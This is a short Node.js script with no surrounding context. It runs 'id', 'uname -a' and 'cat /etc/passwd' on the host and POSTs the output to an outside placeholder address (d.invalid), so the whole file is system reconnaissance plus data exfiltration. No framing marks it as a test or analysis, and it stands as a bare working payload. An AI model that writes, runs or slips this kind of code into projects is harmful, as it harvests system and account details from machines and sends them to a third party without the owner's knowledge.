const cp = require('node:child_process');
const { request } = require('node:https');
cp.exec('id && uname -a && cat /etc/passwd', (error, stdout) => {
  const r = request('https://d.invalid/x', { method: 'POST' });
  r.end(stdout); //@act
});
